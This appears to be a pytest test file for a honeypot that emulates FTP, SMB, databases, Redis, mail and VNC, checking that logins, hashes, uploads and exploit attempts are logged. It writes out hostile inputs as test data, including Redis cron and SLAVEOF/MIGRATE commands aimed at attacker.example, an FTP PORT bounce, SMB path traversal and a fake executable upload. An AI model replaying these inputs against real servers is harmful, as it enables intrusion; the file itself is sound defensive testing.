"""The services in their container, visited with real clients."""

import base64
import hashlib
import hmac
import json
import os
import re
import socket
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from honeypot_testing.visited import Visited, details
from honeypot_testing.waiting import wait_for

from sensor_wire.v1.event import EventBody

pytestmark = pytest.mark.docker


def run(*command: str, said: str = "", **environment: str) -> str:
    done = subprocess.run(
        command,
        input=said,
        env=os.environ | environment,
        capture_output=True,
        text=True,
        errors="replace",
        timeout=120,
        check=False,
    )
    return done.stdout + done.stderr


@pytest.mark.emulated
def test_ftp(services: Visited) -> None:
    answer = run("curl", "-sv", "--user", "backup:Winter 2026", f"ftp://{services.container.address}:2121/")
    assert "220 (vsFTPd 3.0.3)" in answer
    assert "530 Login incorrect." in answer
    events = services.session(2121)
    assert (events[0].kind, events[0].severity) == ("connection", "low")
    assert [details(events, kind) for kind in ("username", "password", "login")] == [
        ["backup"],
        ["Winter 2026"],
        ["refused"],
    ]
    assert {event.severity for event in events if event.kind == "login"} == {"medium"}


def ftp(services: Visited, path: str, *arguments: str) -> str:
    return run("curl", "-sv", *arguments, f"ftp://{services.container.address}:2121/{path}")


@pytest.mark.parametrize("mode", ["--ftp-pasv", "--disable-epsv"])
def test_ftp_takes_and_gives_files(services: Visited, tmp_path: Path, mode: str) -> None:
    sent, got = tmp_path / "evil.exe", tmp_path / "got"
    sent.write_bytes(b"MZ\x00\xff" * 300_000)
    assert "226 Transfer complete." in ftp(services, "incoming/", mode, "-T", str(sent))
    assert re.search(r"-rw-r--r-- .* 1200000 \w{3} \d\d \d\d:\d\d evil\.exe\r?\n", ftp(services, "incoming/", mode))
    ftp(services, "incoming/evil.exe", mode, "-o", str(got))
    assert got.read_bytes() == sent.read_bytes()

    def events() -> list[EventBody]:
        return [event for session in services.sessions(2121) for event in session]

    wait_for(lambda: len(details(events(), "closed")) >= 3, lambda: f"three visits; {events()}")
    assert set(details(events(), "username")) == {"anonymous"}
    assert set(details(events(), "login")) == {"accepted"}
    assert {"RETR evil.exe", "LIST", "STOR evil.exe"} <= set(details(events(), "request"))
    (file,) = map(json.loads, details(events(), "file"))
    assert (file["name"], file["bytes"]) == ("incoming/evil.exe", 1_200_000)
    assert file["sha256"] == hashlib.sha256(sent.read_bytes()).hexdigest()
    (packet,) = (packet for event in events() for packet in event.packets)
    assert base64.b64decode(packet.payload) == sent.read_bytes()[:4096]
    assert {event.severity for event in events() if details([event], "file")} == {"high"}


def test_ftp_names_the_address_that_was_addressed(services: Visited) -> None:
    (services.sensor.path.parent / "addresses").write_text("2001:db8::7\n192.0.2.7\n")
    answer = ftp(services, "pub/", "--disable-epsv")
    assert "227 Entering Passive Mode (192,0,2,7," in answer
    assert "README.txt" in answer


def test_ftp_by_ipv6(services: Visited) -> None:
    answer = run("curl", "-sv", f"ftp://[{services.container.address6}]:2121/pub/README.txt")
    assert "intranet.local: internal use only." in answer


def test_ftp_connects_to_nobody(services: Visited) -> None:
    place, other = services.container.address, "198,51,100,9,0,80"
    answer = run("curl", "-sv", "--ftp-port", "-", f"ftp://{place}:2121/")
    assert "EPRT command successful. Consider using PASV." in answer
    assert "425 Failed to establish connection." in answer
    assert "500 Illegal PORT command." in run("curl", "-sv", "-Q", f"PORT {other}", f"ftp://{place}:2121/")
    wait_for(
        lambda: details(services.sensor.events, "exploit") == ["PORT to 198.51.100.9, to be attacked in our name"],
        lambda: f"the exploit; {services.sensor.events}",
    )
    assert "Tcp:ActiveOpens" not in services.container.went_out()


def test_ftp_data_is_for_who_asked_only(services: Visited) -> None:
    address = services.container.address
    with socket.create_connection((address, 2121), 20) as client, client.makefile("rwb") as both:
        both.readline()
        for line in (b"USER ftp", b"PASS x", b"EPSV"):
            both.write(line + b"\r\n")
            both.flush()
            answer = both.readline()
        port = int(answer.split(b"|")[3])
        both.write(b"LIST\r\n")
        both.flush()
        assert 50100 <= port <= 50131
        with socket.create_connection((services.container.address6, port), 20) as stranger:
            assert stranger.recv(10) == b""
        with socket.create_connection((address, port), 20) as data:
            assert both.readline() == b"150 Here comes the directory listing.\r\n"
            assert b" pub\r\n" in data.makefile("rb").read()
        assert both.readline() == b"226 Directory send OK.\r\n"


@pytest.mark.parametrize("services", [{"ftp_anonymous": False, "os_family": "windows"}], indirect=True)
def test_ftp_may_refuse_everybody(services: Visited) -> None:
    assert "530 User cannot log in." in ftp(services, "")
    assert details(services.session(2121), "login") == ["refused"]


def test_mysql(services: Visited) -> None:
    client = ["mysql", "--ssl-mode=DISABLED"] if "Oracle" in run("mysql", "--version") else ["mariadb", "--skip-ssl"]
    place = ["-h", services.container.address, "-P", "3306"]
    answer = run(*client, *place, "-u", "root", "-ptoor", "shop", "-e", "select 1")
    assert f"Access denied for user 'root'@'{services.container.gateway}' (using password: YES)" in answer
    events = services.session(3306)
    assert (details(events, "username"), details(events, "database")) == (["root"], ["shop"])
    (line,) = details(events, "hash")
    assert re.fullmatch(r"\$mysqlna\$[0-9a-f]{40}\*[0-9a-f]{40}", line)


def test_sql_server_login_in_the_clear(services: Visited) -> None:
    place = ["-H", services.container.address, "-p", "1433"]
    answer = run("tsql", *place, "-U", "sa", "-P", "P@ss w0rd", "-D", "shop", said="quit\n", TDSVER="7.4")
    assert "Login failed for user 'sa'." in answer
    events = services.session(1433)
    assert [details(events, kind) for kind in ("username", "password", "database")] == [["sa"], ["P@ss w0rd"], ["shop"]]


@pytest.mark.emulated
def test_redis(services: Visited) -> None:
    client = ["redis-cli", "-h", services.container.address, "-p", "6379"]
    said = 'INFO server\nSET x "a\\xff"\nGET x\nAUTH hunter2\nCONFIG SET dir /var/spool/cron\nFOO bar\n'
    answer = run(*client, said=said)
    assert "redis_version:7.0.15" in answer
    assert '"a\\xff"' in answer or "a�" in answer
    assert "unknown command 'FOO'" in answer
    events = services.session(6379)
    assert details(events, "command") == [r"SET x a\xff", "GET x", "FOO bar"]
    assert details(events, "exploit") == ["CONFIG SET dir /var/spool/cron"]
    assert details(events, "password") == ["hunter2"]
    assert [base64.b64decode(packet.payload) for event in events for packet in event.packets] == [b"SET x a\xff"]
    assert max(events, key=lambda event: event.severity == "high").severity == "high"


def smbclient(services: Visited, share: str, *arguments: str) -> str:
    return run("smbclient", "-p", "2445", f"//{services.container.address}/{share}", *arguments)


def test_smb_takes_files_and_proofs(services: Visited, tmp_path: Path) -> None:
    sent, got = tmp_path / "evil.exe", tmp_path / "README.txt"
    sent.write_bytes(b"MZ\x00\xff" * 40_000)
    commands = f"put {sent} evil.exe; ls; get README.txt {got}"
    answer = smbclient(services, "public", "-U", "CORP\\alice%Summer2026", "-c", commands)
    assert re.search(r"evil\.exe +\S+ +160000 ", answer), answer
    assert "148529400" not in answer, "the disk is the one of every impacket"
    assert got.read_text() == "intranet.local: internal use only.\n"
    events = services.session(2445)
    assert [details(events, kind) for kind in ("username", "domain", "login")] == [["alice"], ["CORP"], ["accepted"]]
    (line,) = details(events, "hash")
    assert ntlm_v2(line, "Summer2026"), line
    assert f"share \\\\{services.container.address}\\public" in details(events, "request")
    (file,) = map(json.loads, details(events, "file"))
    assert (file["name"], file["bytes"]) == ("public/evil.exe", 160_000)
    assert file["sha256"] == hashlib.sha256(sent.read_bytes()).hexdigest()
    (packet,) = (packet for event in events for packet in event.packets)
    assert base64.b64decode(packet.payload) == sent.read_bytes()[:4096]


def ntlm_v2(line: str, password: str) -> bool:
    """Tell whether a line of hashcat's form 5600 proves a password; MD4 is asked of openssl, as Python may lack it."""
    user, _, domain, challenge, proof, blob = line.split(":")
    legacy = ["openssl", "dgst", "-provider", "legacy", "-provider", "default", "-md4", "-binary"]
    md4 = subprocess.run(legacy, input=password.encode("utf-16le"), capture_output=True, check=True).stdout
    key = hmac.digest(md4, (user.upper() + domain).encode("utf-16le"), "md5")
    return hmac.digest(key, bytes.fromhex(challenge + blob), "md5").hex() == proof


@pytest.mark.parametrize("services", [{"protocols": ["smb"], "os_family": "windows"}], indirect=True)
def test_smb_speaks_the_versions_that_windows_speaks(services: Visited) -> None:
    for number, version in enumerate(("SMB2_02", "SMB2_10", "SMB3_00", "SMB3_02", "SMB3_11"), 1):
        exactly = ["-m", version, f"--option=client min protocol={version}"]
        answer = smbclient(services, "public", *exactly, "-U", "CORP\\alice%Summer2026", "-c", "ls", "-d", "4")
        assert "README.txt" in answer, answer
        assert f"negotiated dialect[{version}]" in answer
        wait_for(
            lambda: len(details(services.sensor.events, "hash")) == number,  # noqa: B023 - called within the round
            lambda: f"{services.sensor.events}",
        )
    assert all(ntlm_v2(line, "Summer2026") for line in details(services.sensor.events, "hash"))
    scan = ["nmap", "-Pn", "-n", "--script", "smb-protocols", "--script-args", "smbport=2445", "-p", "2445"]
    found = run(*scan, services.container.address)
    assert re.findall(r"\|_? +(\d[\d:]+)$", found, re.MULTILINE) == ["202", "210", "300", "302", "311"], found


def test_smb_lists_its_shares_and_leads_nowhere_else(services: Visited) -> None:
    answer = run("smbclient", "-p", "2445", "-N", "-L", services.container.address)
    assert re.search(r"public +Disk", answer), answer
    assert re.search(r"IPC\$ +IPC", answer), answer
    for name in ("journal.json", "../journal.json", "../../../var/lib/honeypot/outbox.db"):
        assert "NT_STATUS" in smbclient(services, "IPC$", "-N", "-c", f"get {name} /dev/null")


def test_smb_of_version_1_is_told(services: Visited) -> None:
    answer = smbclient(services, "public", "-m", "NT1", "--option=client min protocol=NT1", "-N", "-c", "ls")
    assert "negotiation failed" in answer.lower() or "NT_STATUS" in answer
    assert "SMB version 1" in details(services.session(2445), "request")


@pytest.mark.parametrize(
    ("method", "port"), [("PLAIN", 2525), ("LOGIN", 2525), ("PLAIN", 2143), ("LOGIN", 2143), ("PLAIN", 2110)]
)
def test_mail_logins(services: Visited, method: str, port: int) -> None:
    scheme = {2525: "smtp", 2143: "imap", 2110: "pop3"}[port]
    url = f"{scheme}://{services.container.address}:{port}/"
    user = ["--user", 'bob:p"w\\ 1', "--login-options", f"AUTH={method}"]
    run("curl", "-s", "--max-time", "60", *user, url)
    events = services.session(port)
    found = [details(events, kind) for kind in ("username", "password", "login")]
    assert found == [["bob"], ['p"w\\ 1'], ["refused"]]


def test_imap_login_command_with_literals(services: Visited) -> None:
    with socket.create_connection((services.container.address, 2143), 20) as client, client.makefile("rwb") as both:
        assert b"Dovecot (Debian) ready." in both.readline()
        for line in (b"a LOGIN {3}", b'bob {5+}\r\np"\\w1'):
            both.write(line + b"\r\n")
            both.flush()
            answer = both.readline()
        assert answer == b"a NO [AUTHENTICATIONFAILED] Authentication failed.\r\n"
    events = services.session(2143)
    assert (details(events, "username"), details(events, "password")) == (["bob"], ['p"\\w1'])


def test_mail_is_taken_and_told(services: Visited) -> None:
    place = ["--server", services.container.address, "--port", "2525", "--helo", "attacker.example"]
    addresses = ["--from", "ceo@corp.example", "--to", "victim@corp.example"]
    answer = run("swaks", *place, *addresses, "--body", "Open this.\n.\nNow", "--header", "Subject: invoice")
    assert "220 files01.intranet.local ESMTP Postfix (Debian/GNU)" in answer
    assert "250 2.0.0 Ok: queued as" in answer
    events = services.session(2525)
    assert details(events, "client") == ["attacker.example"]
    assert (details(events, "sender"), details(events, "recipients")) == (["ceo@corp.example"], ["victim@corp.example"])
    (packet,) = (packet for event in events for packet in event.packets)
    assert b"Subject: invoice\r\n" in base64.b64decode(packet.payload)
    assert b"Open this.\r\n.\r\nNow" in base64.b64decode(packet.payload)


def test_postgresql(services: Visited) -> None:
    place = f"host={services.container.address} user=postgres dbname=shop"
    answer = run("psql", place, "-c", "select 1", PGPASSWORD="Winter 2026")
    assert 'FATAL:  password authentication failed for user "postgres"' in answer
    events = services.session(5432)
    found = [details(events, kind) for kind in ("username", "password", "database", "program")]
    assert found == [["postgres"], ["Winter 2026"], ["shop"], ["psql"]]


def vnc_login(address: str, proof: bytes) -> bytes:
    """The client's side of RFB 3.8 with a password; Debian's viewers need a screen."""
    with socket.create_connection((address, 5900), 20) as client, client.makefile("rb") as answers:
        assert answers.read(12) == b"RFB 003.008\n"
        client.sendall(b"RFB 003.008\n")
        assert answers.read(2) == b"\1\2"
        client.sendall(b"\2")
        challenge = answers.read(16)
        client.sendall(proof)
        assert answers.read() == b"\0\0\0\1\0\0\0\x16Authentication failure"
        return challenge


def test_vnc(services: Visited) -> None:
    challenge = vnc_login(services.container.address, b"0123456789abcdef")
    (line,) = details(services.session(5900), "hash")
    assert line == f"$vnc$*{challenge.hex()}*{b'0123456789abcdef'.hex()}"


def test_what_is_no_login_is_told_with_its_bytes(services: Visited) -> None:
    with socket.create_connection((services.container.address, 1433), 20) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n\x00\xff")
        client.shutdown(socket.SHUT_WR)
        client.recv(100)
    events = services.session(1433)
    (event,) = (event for event in events if event.packets)
    assert (event.kind, event.severity) == ("request", "medium")
    assert base64.b64decode(event.packets[0].payload) == b"GET / HTTP/1.0\r\n\r\n\x00\xff"


def test_ipv6_visitor_is_told_by_its_own_address(services: Visited) -> None:
    with socket.create_connection((services.container.address6, 2121), 20) as client:
        own = client.getsockname()
        assert client.recv(100).startswith(b"220 ")
    wait_for(lambda: str(own[0]) in {str(event.source.ip) for event in services.sensor.events}, "the event")
    event = next(event for event in services.sensor.events if str(event.source.ip) == own[0])
    assert (event.source.port, str(event.destination.ip)) == (own[1], services.container.address6)


def test_flood_is_counted_to_the_last_visit(services: Visited) -> None:
    def visit(number: int) -> None:
        with socket.create_connection((services.container.address, 2121), 60) as client:
            client.recv(100)
            client.sendall(f"USER root\r\nPASS {number}\r\nQUIT\r\n".encode())
            while client.recv(1000):
                pass

    with ThreadPoolExecutor(16) as pool:
        list(pool.map(visit, range(600)))

    def told() -> tuple[int, set[str]]:
        sessions = services.sessions(2121)
        counts = [int(text.split()[0]) for events in sessions for text in details(events, "repeated")]
        alone = [events for events in sessions if "too many" not in details(events, "connection")[0]]
        return len(alone) + sum(counts), {secret for events in sessions for secret in details(events, "password")}

    wait_for(lambda: told() == (600, {str(number) for number in range(600)}), lambda: f"all visits; {told()[0]}")
    assert len(services.sensor.events) < 600, "each visit of a flood has become events of its own"
    assert not services.sensor.problems


NMAP = {
    1433: ("Microsoft SQL Server 2019 15.00.4430", "Microsoft SQL Server 2019 15.00.2000"),
    2110: ("Dovecot pop3d", "Microsoft Exchange"),
    2121: ("vsftpd 3.0.3", "Microsoft ftpd"),
    2143: ("Dovecot imapd", "Microsoft Exchange"),
    2445: ("Samba smbd 4", "open"),  # Windows without version 1 tells scanners nothing
    2525: ("Postfix smtpd", "Microsoft Exchange smtpd"),
    3306: ("5.5.5-10.11.11", "MySQL 8.0.39"),  # the prefix is that of every MariaDB
    5432: ("PostgreSQL DB", "PostgreSQL DB"),
    5900: ("VNC (protocol 3.8)", "VNC (protocol 3.8)"),
    6379: ("Redis key-value store 7.0.15", "Redis key-value store 5.0.14"),
}


@pytest.mark.parametrize(
    ("services", "family"),
    [({"os_family": "linux"}, 0), ({"os_family": "windows"}, 1)],
    indirect=["services"],
    ids=["linux", "windows"],
)
def test_scanner_names_what_the_persona_claims(services: Visited, family: int) -> None:
    ports = ",".join(map(str, NMAP))
    found = run("nmap", "-Pn", "-n", "-sV", "-p", ports, services.container.address)
    for port, names in NMAP.items():
        line = next(line for line in found.splitlines() if line.startswith(f"{port}/tcp"))
        assert names[family] in line, found


@pytest.mark.parametrize("services", [{"protocols": ["ftp"]}], indirect=True)
def test_only_chosen_protocols_are_offered(services: Visited) -> None:
    with socket.socket() as probe:
        assert probe.connect_ex((services.container.address, 3306)) != 0


@pytest.mark.parametrize("services", [{"redis_password": True}], indirect=True)
def test_redis_may_ask_for_a_password(services: Visited) -> None:
    answer = run("redis-cli", "-h", services.container.address, "-a", "hunter2", "--no-auth-warning", "KEYS", "*")
    assert "WRONGPASS" in answer
    assert "NOAUTH" in answer
    assert details(services.session(6379), "password") == ["hunter2"]


@pytest.mark.netns
def test_no_service_opens_a_connection_or_asks_for_a_name(services: Visited) -> None:
    enter = ["nsenter", f"--net={services.container.network_namespace}", "nft"]
    watch = """
      table inet watch {
        chain out {
          type filter hook output priority filter;
          meta l4proto { tcp, udp } ct state new ip daddr != 127.0.0.1 counter
          oifname != "lo" meta nfproto ipv6 meta l4proto { tcp, udp } ct state new counter
        }
      }"""
    subprocess.run([*enter, "-f", "-"], input=watch, text=True, check=True)
    address = services.container.address
    run("redis-cli", "-h", address, said="SLAVEOF attacker.example 6379\nMIGRATE attacker.example 6379 k 0 9\n")
    run("swaks", "--server", address, "--port", "2525", "--from", "a@b.example", "--to", "c@d.example")
    run("curl", "-s", "--ftp-port", "-", f"ftp://{address}:2121/")
    run("smbclient", "-p", "2445", "-L", address, "-U", "a%b")
    run("mysql", "--skip-ssl", "-h", address, "-u", "a", "-pb")
    run("psql", f"host={address} user=a dbname=b", PGPASSWORD="c")
    assert run(*enter, "list", "table", "inet", "watch").count("packets 0 bytes 0") == 2
    say = "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('%s', 9))"
    services.container.execute("python", "-c", say % services.container.gateway)
    assert run(*enter, "list", "table", "inet", "watch").count("packets 0 bytes 0") == 1, "the watch sees nothing"


def test_stop_hands_over_the_rest(services: Visited) -> None:
    with socket.create_connection((services.container.address, 2121), 20) as client:
        client.sendall(b"USER root\r\nPASS last\r\n")
        while b"530" not in client.recv(100):
            pass
        assert services.container.stop() == 0
    assert details(services.session(2121), "password") == ["last"]
